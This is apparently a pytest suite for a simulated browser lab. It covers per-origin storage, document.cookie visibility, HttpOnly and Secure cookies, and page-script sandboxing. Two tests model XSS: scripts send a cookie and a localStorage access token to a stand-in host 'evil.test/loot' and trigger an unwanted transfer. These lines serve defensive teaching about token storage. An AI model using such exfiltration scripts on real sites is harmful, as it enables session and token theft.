"""Pages: storage by origin, cookies as scripts see them, and the sandbox of a page script."""

from __future__ import annotations

from typing import Any

import pytest

from labapp.client import Browser, CookieJar, Network, Page, Response, Storage, Window

BANK = "https://bank.harbour.test"
IDENTITY = "https://id.harbour.test"
EVIL = "https://evil.test"


def test_local_storage_is_shared_by_the_pages_of_an_origin_and_by_no_others(alice: Browser) -> None:
    alice.page(BANK + "/a").local_storage["token"] = "x"
    assert alice.page(BANK + "/b").local_storage["token"] == "x"
    assert alice.storage(BANK)["token"] == "x"
    for other in (IDENTITY, EVIL, "http://bank.harbour.test", BANK + ":8443"):
        assert dict(alice.page(other).local_storage) == {}


def test_session_storage_is_another_and_just_as_separate(alice: Browser) -> None:
    page = alice.page(BANK)
    page.session_storage["token"] = "x"
    assert "token" not in page.local_storage
    assert "token" in alice.page(BANK).session_storage
    assert "token" not in alice.page(IDENTITY).session_storage


def test_whatever_is_stored_becomes_text() -> None:
    storage = Storage()
    storage["n"] = 5
    storage["none"] = None
    assert dict(storage) == {"n": "5", "none": "None"}
    del storage["n"]
    assert (len(storage), storage.get("n"), repr(storage)) == (1, None, "<Storage none>")
    storage.clear()
    assert repr(storage) == "<Storage empty>"


def test_the_value_of_a_stored_item_is_not_shown_by_accident(alice: Browser) -> None:
    storage = alice.page(BANK).local_storage
    storage["token"] = "s3cret"
    assert "s3cret" not in repr(storage)


def test_document_cookie_shows_what_is_not_http_only(alice: Browser, bank: Any) -> None:
    bank.sets("open=1; Path=/", "SID=2; Path=/; HttpOnly", "deep=3; Path=/deep")
    page = alice.visit(BANK + "/set")
    assert page.document_cookie == "open=1"
    assert alice.page(BANK + "/deep/x").document_cookie == "deep=3; open=1"
    assert alice.page(EVIL).document_cookie == ""


def test_document_cookie_sets_one_cookie_and_leaves_the_others(alice: Browser) -> None:
    page = alice.page(BANK + "/a/b")
    page.document_cookie = "x=1; Path=/"
    page.document_cookie = "y=2"
    assert page.document_cookie == "y=2; x=1"
    assert alice.page(BANK).document_cookie == "x=1"


def test_document_cookie_cannot_touch_http_only(alice: Browser, bank: Any) -> None:
    bank.sets("SID=1; Path=/; HttpOnly")
    page = alice.visit(BANK + "/set")
    page.document_cookie = "SID=evil; Path=/"
    assert alice.get(BANK + "/").text == "SID=1"
    assert alice.cookies.refusals[-1].rule == "overwrite"


def test_a_page_over_http_does_not_see_secure_cookies(alice: Browser) -> None:
    alice.cookies.set_from_response(BANK, "SID=1; Secure; Path=/")
    assert alice.page("http://bank.harbour.test").document_cookie == ""


# --- the sandbox -----------------------------------------------------------------------------------------------------


def test_a_script_gets_what_javascript_would_and_returns_what_it_likes(alice: Browser, bank: Any) -> None:
    bank.sets("open=1; Path=/", "SID=2; Path=/; HttpOnly")
    page = alice.visit(BANK + "/set#frag")
    page.local_storage["token"] = "eyJ…"

    def script(window: Window) -> tuple[str, str, str, str]:
        window.document_cookie = "mine=1; Path=/"
        window.local_storage["seen"] = "yes"
        return (
            window.location,
            window.document_cookie,
            window.local_storage["token"],
            window.fetch("/whoami").text,
        )

    assert page.run_script(script) == (BANK + "/set#frag", "open=1; mine=1", "eyJ…", "open=1; SID=2; mine=1")
    assert page.local_storage["seen"] == "yes"


def test_http_only_stops_the_theft_of_a_cookie_and_not_its_use(alice: Browser, bank: Any, evil: Any) -> None:
    """XSS at the bank: the script cannot carry the session away, and rides it all the same."""
    bank.sets("SID=s3cret; Path=/; HttpOnly; Secure; SameSite=Strict")
    page = alice.visit(BANK + "/set")

    def xss(window: Window) -> int:
        window.fetch(EVIL + "/loot", method="POST", body=window.document_cookie, mode="no-cors")
        return window.fetch("/transfer", method="POST", json={"to": "mallory"}).status

    assert page.run_script(xss) == 200
    assert evil.last["body"] == b""
    assert bank.last["HTTP_COOKIE"] == "SID=s3cret"


def test_what_lies_in_local_storage_can_be_carried_away(alice: Browser, evil: Any) -> None:
    page = alice.page(BANK)
    page.local_storage["access_token"] = "eyJ.e30.x"
    page.run_script(
        lambda window: window.fetch(
            EVIL + "/loot", method="POST", body=window.local_storage["access_token"], mode="no-cors"
        )
    )
    assert evil.last["body"] == b"eyJ.e30.x"


def test_a_script_of_another_origin_gets_nothing_of_it(alice: Browser) -> None:
    alice.page(BANK).local_storage["token"] = "x"
    alice.cookies.set_from_response(BANK, "open=1; Path=/")
    seen = alice.page(EVIL).run_script(lambda window: (dict(window.local_storage), window.document_cookie))
    assert seen == ({}, "")


def public_parts(thing: Any) -> list[Any]:
    parts = [getattr(thing, name) for name in dir(thing) if not name.startswith("_")]
    return parts + [part.__self__ for part in parts if hasattr(part, "__self__")]


def test_nothing_of_the_browser_can_be_reached_by_ordinary_attributes(alice: Browser) -> None:
    inner = (Browser, CookieJar, Network, Page)

    def script(window: Window) -> list[str]:
        assert [name for name in dir(window) if not name.startswith("_")] == [
            "document_cookie",
            "fetch",
            "local_storage",
            "location",
        ]
        seen: list[Any] = [window, window.fetch(BANK + "/")]
        for _ in range(4):
            seen += [
                part for thing in seen for part in public_parts(thing) if not any(part is s for s in seen)
            ][:300]
        return [repr(thing) for thing in seen if isinstance(thing, inner)]

    assert alice.page(BANK).run_script(script) == []


@pytest.mark.parametrize("name", ["browser", "page", "_page", "_host", "document", "cookies", "__dict__"])
def test_a_window_has_no_such_attribute_and_takes_none(alice: Browser, name: str) -> None:
    def script(window: Window) -> None:
        assert not hasattr(window, name)
        with pytest.raises(AttributeError):
            setattr(window, name, 1)

    alice.page(BANK).run_script(script)


def test_an_error_of_a_script_is_the_scripts_own(alice: Browser) -> None:
    with pytest.raises(ZeroDivisionError):
        alice.page(BANK).run_script(lambda window: 1 // 0)


def test_a_page_that_was_opened_without_a_server_has_no_status(alice: Browser) -> None:
    page = alice.page(BANK + "/x")
    assert (page.origin, page.status, page.text, page.response) == (BANK, 0, "", None)


def test_a_page_that_was_visited_has_its_response(alice: Browser, bank: Any) -> None:
    bank.on("/", body=b"hello", status="201 Created")
    page = alice.visit(BANK)
    assert (page.status, page.text) == (201, "hello")
    assert isinstance(page.response, Response)
    assert repr(page) == "<Page of https://bank.harbour.test>"
